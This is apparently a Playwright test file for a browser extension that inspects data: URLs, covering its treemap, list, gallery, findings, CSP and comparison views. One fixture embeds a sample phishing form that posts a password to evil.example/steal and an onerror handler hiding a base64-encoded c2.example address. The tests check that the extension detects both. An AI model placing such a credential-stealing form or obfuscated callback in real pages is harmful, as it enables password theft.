/**
 * Tests the views of the inspector tab (overview, gallery, findings, changes): whether they agree, and how much they
 * can show.
 */

import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright';
import { maxOccurrences } from '../../extension/platform/frame-messages.ts';
import { violationsOf } from '../support/accessible.ts';
import { type Extension, launchForFile } from '../support/chromium.ts';
import { fromMenu, openPopup, pinBehind } from '../support/popup.ts';
import { isFull, stepInFull, testInFull } from '../support/seed.ts';
import { type Served, serve } from '../support/serve.ts';

const gif = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
const css = `data:text/css,${'.a{color:red}'.repeat(400)}`;
const offer =
  '<form action=https://evil.example/steal method=post><label>Password <input type=password></label></form>' +
  '<img src=x onerror="parent.postMessage(atob(`aHR0cHM6Ly9jMi5leGFtcGxlLw==`))">';
const page = `<!doctype html><title>Views</title><link rel="stylesheet" href="${css}">
<img id="logo" src="${gif}">${`<img src="${gif}">`.repeat(200)}
<iframe src="data:text/html,${encodeURIComponent(offer)}"></iframe><a href="data:image/png;base64,AA*A">broken</a>
<a href="data:text/plain,${'%61'.repeat(900)}">text</a>`;

const chromium = launchForFile();

interface Opened {
  server: Served;
  extension: Extension;
  tab: Page;
  inspector: Page;
}

/** Serves a page at `/`, and opens its inspector tab. */
async function openTab(t: { after(end: () => Promise<void>): void }, html: string): Promise<Opened> {
  const server = await serve({ routes: { '/': html } });
  t.after(() => server.close());
  const extension = chromium();
  const tab = await extension.newPage();
  await tab.goto(server.url('/'));
  const popup = await openPopup(extension, tab);
  const [inspector] = await Promise.all([
    extension.context.waitForEvent('page', (opened) => opened.url().startsWith(extension.origin)),
    popup.click('[data-action="open-tab"]'),
  ]);
  await inspector.waitForSelector('main[data-state="done"]');
  t.after(async () => {
    await inspector.close();
    await tab.close();
  });
  return { server, extension, tab, inspector };
}

const show = (inspector: Page, view: string) => inspector.click(`[data-view-link="${view}"]`);

/** Returns the number of bytes in an English text such as `5.2 kB`. */
function bytesIn(text: string): number {
  const [, value = '0', unit = ''] = /([\d.]+) (bytes|kB|MB)/.exec(text) ?? [];
  return Number(value) * ({ kB: 1000, MB: 1_000_000 }[unit] ?? 1);
}

testInFull(
  'a small SVG is enlarged, with a size of its own or a viewBox alone, and stays smooth',
  async (t) => {
    const sizes = ["width='10' height='8'", "viewBox='0 0 10 8'"];
    const { inspector } = await openTab(
      t,
      sizes
        .map((size) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' ${size}/>">`)
        .join(''),
    );
    await show(inspector, 'list');
    // No element with a tooltip may contain another one, because one tooltip would cover the other.
    await inspector.locator('[data-row] .place[title]').first().waitFor();
    assert.equal(await inspector.locator('[data-row] [title] [title]').count(), 0);
    for (const row of await inspector.locator('[data-row]').all()) {
      await row.click();
      const id = await row.getAttribute('data-row');
      const zoom = inspector.locator(`[data-detail="${id}"] [data-action="zoom-true"]`);
      await zoom.filter({ hasText: '1,600%' }).waitFor();
      const drawn = await inspector.evaluate(() => {
        const image = document.querySelector('.stage img')!;
        return [image.clientWidth, image.clientHeight, getComputedStyle(image).imageRendering];
      });
      assert.deepEqual(drawn, [160, 128, 'auto']);
    }
  },
);

testInFull(
  'a link to a view is followed even if the browser reports it after a detail has closed',
  async (t) => {
    const { inspector } = await openTab(t, page);
    await show(inspector, 'list');
    await inspector.locator('[data-row]', { hasText: 'image/gif' }).click();
    await inspector.locator('[data-detail]').waitFor();
    await inspector.evaluate(() => {
      const later = (event: HashChangeEvent) => {
        event.stopImmediatePropagation();
        removeEventListener('hashchange', later, true);
        addEventListener('address-without-id', () => dispatchEvent(new HashChangeEvent('hashchange')));
        document.documentElement.dataset.held = '';
      };
      addEventListener('hashchange', later, true);
      document.querySelector<HTMLElement>('[data-action="close-detail"]')?.click();
      document.querySelector<HTMLElement>('[data-view-link="findings"]')?.click();
    });
    await inspector.waitForFunction(
      () => 'held' in document.documentElement.dataset && !location.hash.includes('/'),
    );
    await inspector.evaluate(() => dispatchEvent(new Event('address-without-id')));
    await inspector.locator('[data-rule]').first().waitFor();
    assert.equal(await inspector.evaluate(() => location.hash), '#findings');
  },
);

testInFull('the search keeps the focus as the tab becomes narrow or wide', async (t) => {
  const { inspector } = await openTab(t, page);
  await show(inspector, 'list');
  await inspector.locator('input[type="search"]').focus();
  for (const [n, width] of [500, 1000, 500, 1000].entries()) {
    await inspector.keyboard.type('gif'.charAt(n) || ' ');
    await inspector.setViewportSize({ width, height: 700 });
    await inspector.locator(width < 720 ? '.view.narrow' : '.view.wide').waitFor();
  }
  await inspector.keyboard.type('-is:flagged');
  assert.equal(await inspector.locator('input[type="search"]').inputValue(), 'gif -is:flagged');
});

const longNames = [
  'word '.repeat(2000),
  'x'.repeat(10_000),
  'שלום '.repeat(2000),
  '👩‍👩‍👧‍👦'.repeat(900),
  '\u202etxt.exe',
];
const named = `<!doctype html><meta charset="utf-8">${longNames
  .map(
    (
      name,
      at,
    ) => `<a download="${name}" href="data:application/octet-stream,${at}${'y'.repeat(300 * at)}">${at}</a>
      <img alt="${name}" title="${name}" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><title>${name}</title></svg>">`,
  )
  .join('')}`;

testInFull('a popup and a panel show any name, and the popup leads to Compare by name', async (t) => {
  const { extension, tab, inspector } = await openTab(t, named);
  await inspector.close();
  for (const open of ['clickAction', 'openDevToolsPanel'] as const) {
    const surface = await extension[open](tab);
    await surface.waitFor(() => document.querySelector('main[data-state="done"] [data-row]'));
    for (const dir of ['rtl', 'ltr']) {
      const bad = await surface.evaluate((direction) => {
        document.documentElement.dir = direction;
        const outside = [...document.querySelectorAll('[data-row] :is(.name, .size, .cost)')].filter(
          (each) => {
            const { left, right, bottom } = each.getBoundingClientRect();
            const row = each.closest('[data-row]')!.getBoundingClientRect();
            return left < row.left || right > row.right || bottom > row.bottom;
          },
        );
        const isWide = document.documentElement.scrollWidth > innerWidth;
        return [
          isWide,
          document.body.textContent?.includes('\u202e'),
          outside.map(({ className }) => className),
        ];
      }, dir);
      assert.deepEqual(bad, [false, false, []], `${open}, ${dir}`);
    }
    if (open === 'clickAction') await (await pinBehind(extension, surface)).close();
    if (!surface.isClosed()) await surface.close();
  }
});

testInFull('names of any length and direction, in every view and at any width', async (t) => {
  const { inspector } = await openTab(t, named);
  for (const view of ['overview', 'list', 'gallery', 'findings']) {
    await show(inspector, view);
    for (const width of [1280, 320]) {
      await inspector.setViewportSize({ width, height: 800 });
      for (const direction of ['rtl', 'ltr']) {
        await inspector.evaluate((dir) => document.documentElement.setAttribute('dir', dir), direction);
        await inspector.waitForFunction(() => document.documentElement.scrollWidth <= innerWidth);
      }
    }
    assert.ok(!((await inspector.locator('main').textContent()) ?? '').includes('\u202e'));
  }
});

testInFull('more data: URLs than one message may hold', { timeout: 300_000 }, async (t) => {
  const count = isFull ? 20_000 : maxOccurrences + 1;
  const many = Array.from({ length: count }, (_, n) => `<a href="data:text/plain,${n}"></a>`);
  const { inspector } = await openTab(t, `<!doctype html><title>Many</title>${many.join('')}`);
  const options = inspector.locator('.treemap [role="option"]');
  await inspector.locator('.treemap').focus();
  await inspector.keyboard.press('End');
  await inspector.locator(`.treemap [aria-posinset="${count}"]`).waitFor();
  assert.ok((await options.count()) < 200, 'only what has a name is an element');
  await show(inspector, 'gallery');
  await inspector.locator('.gallery').focus();
  await inspector.keyboard.press('End');
  await inspector.locator(`.tile[aria-posinset="${count}"]`).waitFor();
  assert.ok((await inspector.locator('.tile').count()) < 300);
  await show(inspector, 'list');
  await inspector.locator(`[aria-rowindex="${count + 1}"][aria-selected="true"]`).waitFor();
});

testInFull('a page that goes away while it is looked at', async (t) => {
  const { tab, inspector } = await openTab(t, page);
  await tab.goto('about:blank');
  await inspector.locator('main[data-state="failed"] [data-failure="page-gone"]').waitFor();
  // All views still show their contents.
  for (const [view, there] of [
    ['overview', '.treemap [role="option"]'],
    ['list', '[data-row]'],
    ['gallery', '.tile'],
    ['findings', '[data-rule]'],
  ] as const) {
    await show(inspector, view);
    await inspector.locator(there).first().waitFor();
  }
});

// This test must be the last one in this file, because it grants access to hosts, and the grants remain.
test('the views of a page', async (t) => {
  const { server, extension, tab, inspector } = await openTab(t, page);
  const treemap = inspector.getByRole('listbox', { name: 'Where the bytes go' });

  await stepInFull(t)('the header stays as it is while its age grows', async () => {
    const places = () =>
      inspector.evaluate(() =>
        [...document.querySelectorAll('.tab-header :is(h1, button, .verdict), [data-view-link]')].map(
          (each) => JSON.stringify(each.getBoundingClientRect()),
        ),
      );
    const before = await places();
    await inspector.locator('.tab-header .age').evaluate((age) => {
      age.textContent = '59 minutes ago';
    });
    assert.deepEqual(await places(), before);
  });

  await t.test(
    'the overview says first what the page carries and what could be saved, each byte once',
    async () => {
      const verdict = (await inspector.locator('.tab-header .savings').textContent()) ?? '';
      await inspector.locator('[data-view-link="list"]').click();
      const button = inspector.getByRole('button', { name: /^save up to .*: Recommended changes$/ });
      assert.ok(((await button.boundingBox())?.height ?? 0) >= 24);
      await button.focus();
      await inspector.keyboard.press('Enter');
      await inspector.waitForFunction(() => document.activeElement?.id === 'changes-heading');
      const inAll = (await inspector.locator('#changes-heading .savings').textContent()) ?? '';
      assert.match(inAll, /^ ?save up to [\d.]+ kB \([\d,]+ bytes\)$/);
      assert.ok(inAll.includes(verdict), inAll);
      const saved = await inspector.locator('[data-change] > h3 .saved').allTextContents();
      assert.ok(saved.length >= 2, saved.join());
      const sum = saved.reduce((total, text) => total + bytesIn(text), 0);
      assert.ok(Math.abs(sum - bytesIn(verdict)) < 200, `${sum} in ${verdict}`);
      const sizes = saved.map(bytesIn);
      assert.deepEqual(
        sizes,
        sizes.toSorted((a, b) => b - a),
        'the most comes first',
      );
    },
  );

  await t.test('a click right after another view was asked for is not taken back', async () => {
    await inspector.evaluate(async () => {
      const asked = new Promise((resolve) => addEventListener('hashchange', resolve, { once: true }));
      document.querySelector<HTMLElement>('[data-view-link="list"]')?.click();
      await asked;
      document.querySelector<HTMLElement>('.tab-header .savings')?.click();
    });
    await inspector.waitForFunction(() => document.activeElement?.id === 'changes-heading');
  });

  await t.test('before it, what can run: when, what it does, and its code', async () => {
    const run = inspector.locator('.runs [data-run]');
    await run.getByText('Addresses found: ').waitFor();
    assert.equal(await run.count(), 1);
    assert.deepEqual(
      [
        await run.locator('strong').textContent(),
        ...(await run.locator('p:not(.settings)').allTextContents()),
      ],
      [
        'Now. Data URL Inspector reports this but doesn’t block it: its default policy doesn’t allow text/html in an iframe.',
        'Asks for a password and sends form data to evil.example/steal from a page without a verifiable address.',
        'Active content: onerror handler.',
        'Addresses found: https://evil.example/steal, https://c2.example/ (atob)',
      ],
    );
    await run.locator('[data-action="run-code"]').click();
    await run.locator('.line', { hasText: /<input type=password>$/ }).waitFor();
    await run.locator('.decoded li', { hasText: 'atob https://c2.example/' }).waitFor();
    await run.locator('[data-action="run-code"]').click();
    // A single click allows nothing.
    assert.equal(await run.locator('[data-action="allow-site"]').count(), 0);
    await run.locator('[data-action="allow-more"]').click();
    await inspector
      .locator('[role="menuitem"]:focus', { hasText: /^Allow text\/html as iframe on / })
      .waitFor();
    await inspector.keyboard.press('Escape');
    // Its details say the same.
    await run.locator('[data-action="open-url"]').click();
    const detail = inspector.locator('[data-detail]');
    await detail.locator('[data-runs-when]', { hasText: /^Can run: Now\. / }).waitFor();
    assert.deepEqual(await detail.locator('[data-runs-line]').allTextContents(), [
      'Addresses found: https://evil.example/steal, https://c2.example/ (atob)',
    ]);
    await inspector.locator('[data-view-link="overview"]').click();
  });

  await t.test('its treemap is walked as the list is', async () => {
    await treemap.focus();
    const active = () =>
      inspector.evaluate(() => {
        const list = document.querySelector('.treemap');
        const option = document.getElementById(list?.getAttribute('aria-activedescendant') ?? '');
        return { label: option?.getAttribute('aria-label'), at: option?.getAttribute('aria-posinset') };
      });
    for (const [key, at] of [
      ['Home', '1'],
      ['ArrowDown', '2'],
      ['ArrowRight', '3'],
      ['ArrowUp', '2'],
      ['ArrowLeft', '1'],
      ['End', '5'],
      ['Home', '1'],
    ] as const) {
      await inspector.keyboard.press(key);
      await inspector.waitForFunction((wanted) => {
        const id = document.querySelector('.treemap')?.getAttribute('aria-activedescendant') ?? '';
        return document.getElementById(id)?.getAttribute('aria-posinset') === wanted;
      }, at);
    }
    assert.match((await active()).label ?? '', /GIF.*15\.7 kB, 201 occurrences, 15\.6 kB in copies/);
    await inspector.keyboard.press('Enter');
    await inspector.locator('[data-detail] .detail-title .type', { hasText: 'image/gif' }).waitFor();
    await inspector.waitForURL(/#overview\/[0-9a-f]{64}$/);
    await inspector.keyboard.press('Escape');
    await inspector.locator('[data-detail]').waitFor({ state: 'detached' });
  });

  await t.test('the treemap is drawn: the kinds by their colors, copies hatched', async () => {
    const colors = await inspector.locator('.treemap canvas').evaluate((element) => {
      const canvas = element as HTMLCanvasElement;
      const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height);
      const counts = new Map<string, number>();
      for (let at = 0; at < data.length; at += 4) {
        const color = [...data.subarray(at, at + 3)].join();
        counts.set(color, (counts.get(color) ?? 0) + 1);
      }
      return [...counts].filter(([, count]) => count > 500).map(([color]) => color);
    });
    for (const color of ['43,108,196', '31,78,141', '11,122,117', '92,107,124'])
      assert.ok(colors.includes(color), `${color} in ${colors.join(' ')}`);
  });

  const rule = (id: string) => inspector.locator(`[data-rule="${id}"]`);

  await t.test('the findings stand by rule, those of the page too, with their data: URLs', async () => {
    await show(inspector, 'findings');
    await rule('duplicates').getByText('saves 15.6 kB').waitFor();
    await rule('duplicates').locator('[data-action="open-url"]').click();
    await inspector.locator('[data-detail] .detail-title .type', { hasText: 'image/gif' }).waitFor();
    assert.equal((await inspector.locator('[data-rule]').count()) > 3, true);
    await inspector.click('[data-action="close-detail"]');
  });

  // test/unit/ui/list/arrange.test.ts tests the lists of the counters.
  await stepInFull(t)('the counters filter the findings', async () => {
    const all = await inspector.locator('[data-rule]').count();
    await inspector.click('.tab-header [data-filter="not-allowed"]');
    await rule('duplicates').waitFor({ state: 'detached' });
    const allowed = await inspector
      .locator('[data-rule]')
      .evaluateAll((rules) => rules.map((each) => (each as HTMLElement).dataset.rule));
    assert.deepEqual(allowed.toSorted(), ['active-content', 'phishing']);
    await inspector.click('.tab-header [data-filter="not-allowed"]');
    await rule('duplicates').waitFor();
    assert.equal(await inspector.locator('[data-rule]').count(), all);
  });

  await t.test('the gallery is walked as the list is, in two directions', async () => {
    await show(inspector, 'gallery');
    await inspector.setViewportSize({ width: 320, height: 1000 });
    // In a wide tab, selecting with a key also opens the detail, which would cover the gallery.
    await inspector.locator('main.narrow').waitFor();
    const gallery = inspector.locator('.gallery');
    await gallery.focus();
    const ids = await inspector.locator('.tile').evaluateAll((tiles) => tiles.map(({ id }) => id));
    assert.equal(ids.length, 5);
    for (const [key, at] of [
      ['Home', 0],
      ['ArrowDown', 2],
      ['ArrowRight', 3],
      ['ArrowUp', 1],
      ['ArrowLeft', 0],
      ['End', 4],
      ['ArrowUp', 2],
    ] as const) {
      await inspector.keyboard.press(key);
      await inspector.locator(`[role=listbox][aria-activedescendant="${ids[at]}"]`).waitFor();
    }
    assert.match((await inspector.locator('.tile').first().textContent()) ?? '', /Error: /);
    await inspector.keyboard.press('Enter');
    await inspector.locator('[data-detail]').waitFor();
    await inspector.click('[data-action="back"]');
    await inspector.locator('.tile').first().waitFor();
    await inspector.setViewportSize({ width: 1280, height: 800 });
    await inspector.locator('main.wide').waitFor();
  });

  await t.test('the detail: its size, its actions, its end', async () => {
    await show(inspector, 'list');
    await inspector.locator('[data-row]', { hasText: 'image/gif' }).click();
    await inspector.locator('[data-detail] .occurrences li').first().waitFor();
    // A rounded cost is followed by the exact one.
    assert.match(
      (await inspector.locator('[data-detail] .facts').first().textContent()) ?? '',
      /kB \([\d,]+ bytes\)/,
    );
    // In a window that is 1280 pixels wide, the facts must be next to the picture.
    const boxes = ['.picture', '.facts'].map((each) =>
      inspector.locator(`[data-detail] ${each}`).first().boundingBox(),
    );
    const [picture, facts] = await Promise.all(boxes);
    assert.ok(
      picture && facts && facts.x >= picture.x + picture.width && facts.y < picture.y + picture.height,
    );
    const height = () => inspector.locator('.split-second').evaluate((pane) => pane.clientHeight);
    const before = await height();
    const edge = inspector.getByRole('separator', { name: 'Width of the details' });
    await edge.focus();
    await inspector.keyboard.press('ArrowDown');
    await inspector.waitForFunction(
      (taller) => (document.querySelector('.split-second')?.clientHeight ?? 0) < taller,
      before,
    );
    assert.equal(await edge.getAttribute('aria-valuenow'), '46');
    // The actions stay in view when the pane is scrolled to its end.
    await inspector.locator('.split-second').evaluate((pane) => pane.scrollTo(0, pane.scrollHeight));
    await inspector.click('[data-action="copy"]');
    await inspector.getByRole('menuitem').first().waitFor();
    await inspector.keyboard.press('Escape');
    await inspector.click('[data-action="close-detail"]');
    await inspector.locator('[data-detail]').waitFor({ state: 'detached' });
    await inspector.waitForFunction(() => document.activeElement?.getAttribute('role') === 'grid');
  });

  await stepInFull(t)('a click on a box, a kind or a data: URL leads to it', async () => {
    await show(inspector, 'overview');
    await treemap.click({ position: { x: 20, y: 20 } });
    await inspector.locator('[data-detail] .detail-title .type', { hasText: 'image/gif' }).waitFor();
    await inspector.click('[data-action="close-detail"]');
    await inspector.locator('[data-change="over-escaped"] [data-action="open-url"]').first().click();
    await inspector.locator('[data-detail] .detail-title .type', { hasText: 'text/plain' }).waitFor();
    await inspector.click('[data-family="style"]');
    await inspector.locator('[data-row]').waitFor();
    assert.equal(await inspector.locator('[data-row] .type').textContent(), 'text/css');
    await inspector.waitForURL(/#list/);
    // Navigating to the address without its fragment loads another document.
    await inspector.goto(inspector.url().replace(/#.*/, ''));
    await inspector.waitForSelector('main[data-state="done"]');
  });

  await t.test('what a CSP breaks, its smallest addition, and the data: URLs in the list', async () => {
    const popup = await openPopup(extension, tab);
    const [opened] = await Promise.all([
      extension.context.waitForEvent('page', (each) => each.url().startsWith(extension.origin)),
      fromMenu(popup, 'csp'),
    ]);
    // The field has the focus, and keeps its width when the effects appear.
    const field = opened.locator('[name=csp]:focus');
    await field.waitFor();
    const { width } = (await field.boundingBox())!;
    await opened.keyboard.insertText("img-src 'self'");
    assert.equal(await field.inputValue(), "img-src 'self'");
    const summary = opened.locator('.csp-summary');
    assert.equal(await summary.locator('code').textContent(), "img-src 'self' data:");
    // Everything is said once: the change, and the link to what it would allow.
    assert.equal(await opened.locator('[data-action="copy-csp"]').count(), 1);
    assert.equal(
      await opened.locator('.csp-serving, [data-decision="blocks"] [data-action="show-urls"]').count(),
      0,
    );
    assert.equal((await field.boundingBox())?.width, width);
    const broken = Number(await summary.getAttribute('data-broken'));
    await opened.click('[data-action="list-broken"]');
    await opened.waitForURL(/#list/);
    await opened.locator('[data-row]').first().waitFor();
    assert.ok(broken > 0);
    assert.equal(await opened.locator('[data-row]').count(), broken);
    // The policy is kept while other views are shown.
    await show(opened, 'csp');
    assert.equal(await opened.inputValue('[name=csp]'), "img-src 'self'");
    await opened.close();
  });

  await t.test('a state is pinned in one click', async () => {
    await extension.grantHosts();
    await inspector.click('[data-action="compare"]');
    await inspector.locator('[data-pinned]').waitFor();
    await inspector.waitForURL(/#changes$/);
    const named = ['[data-action="compare"]', '[data-view-link][aria-current="page"]'].map((each) =>
      inspector.locator(each).textContent(),
    );
    assert.deepEqual(await Promise.all(named), ['Compare with pinned state', 'Compare']);
  });

  const hint = (text: string) => inspector.locator('.pinned-hint', { hasText: text });
  await stepInFull(t)('a scan that nobody asked to compare with leaves the hint', async () => {
    await inspector.click('header [data-action="rescan"]');
    await hint('No changes.').waitFor();
    assert.equal(await inspector.locator('[data-comparison]').count(), 0);
    assert.equal(await inspector.locator('[data-action="compare-now"].primary').count(), 1);
  });

  server.routes.set('/', page.replace('<img id="logo"', '<img src="data:,new"><img id="logo"'));
  await tab.reload();

  await t.test('what was added since is listed', async () => {
    await hint('Rescan the page').waitFor();
    await inspector.click('[data-action="compare-now"]');
    const came = inspector.locator('[data-comparison] [data-list="came"] li');
    await came.first().waitFor();
    assert.equal(await came.count(), 1);
    assert.match((await came.textContent()) ?? '', /data:,new 3 bytes text\/plain \+9 bytes/);
    await came.locator('[data-action="open-url"]').click();
    await inspector.locator('[data-detail]', { hasText: 'data:,new' }).waitFor();
    await inspector.click('[data-action="close-detail"]');
    assert.equal(await inspector.locator('[data-list="went"]').count(), 0);
    // The new picture has shifted the selectors of others, which is no change worth a line of its own.
    assert.equal(await inspector.locator('[data-list="changed"]').count(), 0);
    assert.equal(await inspector.locator('[data-moved] summary').isVisible(), true);
    assert.equal(await inspector.locator('[data-list="moved"]').isVisible(), false);
  });

  await t.test('the popup says that a state is pinned, and leads to the same tab', async () => {
    await show(inspector, 'list');
    const popup = await openPopup(extension, tab);
    await popup.click('[data-action="more"]');
    await popup.waitFor(() => document.querySelector('[role="menu"] [data-action="csp"]'));
    assert.equal(
      await popup.evaluate(() => document.querySelector('[role="menu"] [data-action="compare"]')),
      null,
    );
    await popup.press('Escape');
    const pages = extension.context.pages().length;
    await popup.click('[data-pinned-state] [data-action="compare-pinned"]');
    await inspector.waitForURL(/#changes$/);
    await inspector.locator('[data-comparison]').waitFor();
    assert.equal(await inspector.evaluate(() => document.visibilityState), 'visible');
    assert.equal(extension.context.pages().length, pages);
  });

  await stepInFull(t)('the comparison is accessible', async () =>
    assert.deepEqual(await violationsOf(inspector), []),
  );

  await stepInFull(t)("the pinned state survives the worker's death, and other views", async () => {
    const pinned = await inspector.locator('[data-pinned]').getAttribute('data-pinned');
    await extension.killWorker();
    await show(inspector, 'list');
    server.routes.set('/', page.replace('</iframe>', '</iframe><img src="data:,other">'));
    await tab.reload();
    await show(inspector, 'changes');
    await inspector.click('[data-action="compare-now"]');
    await inspector.locator('[data-list="came"] li', { hasText: '11 bytes' }).waitFor();
    assert.equal(await inspector.locator('[data-pinned]').getAttribute('data-pinned'), pinned);
  });

  await stepInFull(t)('a pinned state goes when it is let go, and with the tab', async () => {
    await inspector.reload();
    await inspector.locator('[data-overview]').waitFor();
    assert.equal(await inspector.locator('[data-view-link="changes"]').count(), 0);
    await inspector.click('[data-action="compare"]');
    await inspector.click('[data-action="unpin"]');
    await inspector.locator('[data-view-link="changes"]').waitFor({ state: 'detached' });
    await inspector.locator('[data-overview]').waitFor();
    await inspector.evaluate(() => {
      location.hash = '#changes';
    });
    await inspector.locator('[data-overview]').waitFor();
  });
});
